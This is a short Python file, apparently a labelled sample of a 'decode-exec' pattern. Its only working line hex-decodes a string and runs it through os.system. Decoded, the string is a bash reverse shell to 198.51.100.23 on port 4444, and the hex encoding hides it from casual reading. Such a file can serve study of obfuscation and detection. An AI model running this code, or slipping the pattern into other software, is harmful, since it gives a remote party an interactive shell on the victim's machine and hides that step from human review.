# decode-exec: binascii.unhexlify feeding os.system
import binascii
import os

os.system(binascii.unhexlify("62617368202d63202762617368202d69203e26202f6465762f7463702f3139382e35312e3130302e32332f3434343420303e263127").decode())
